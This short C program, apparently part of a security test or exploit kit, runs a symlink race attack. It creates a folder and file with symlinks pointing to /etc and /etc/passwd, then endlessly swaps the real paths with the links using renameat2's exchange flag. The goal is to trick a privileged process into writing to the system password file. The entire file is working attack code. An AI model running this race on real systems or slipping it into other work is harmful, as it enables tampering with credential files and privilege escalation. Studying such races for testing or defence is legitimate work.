// Swaps a file for a link and a folder for a link, as fast as it can.
#include "attack.h"

int main(void) {
  must("a folder", mkdir("swap", 0755) == 0);
  must("a link for it", symlink("/etc", "swap.link") == 0);
  must("a link for the file", symlink("/etc/passwd", "file.link") == 0);
  int file = open("file", O_WRONLY | O_CREAT, 0644), inside = open("swap/passwd", O_WRONLY | O_CREAT, 0644);
  must("the files", file >= 0 && inside >= 0);
  puts("racing");
  fflush(stdout);
  for (;;) {
    syscall(SYS_renameat2, AT_FDCWD, "swap", AT_FDCWD, "swap.link", 2 /* exchange */);
    syscall(SYS_renameat2, AT_FDCWD, "file", AT_FDCWD, "file.link", 2);
  }
}
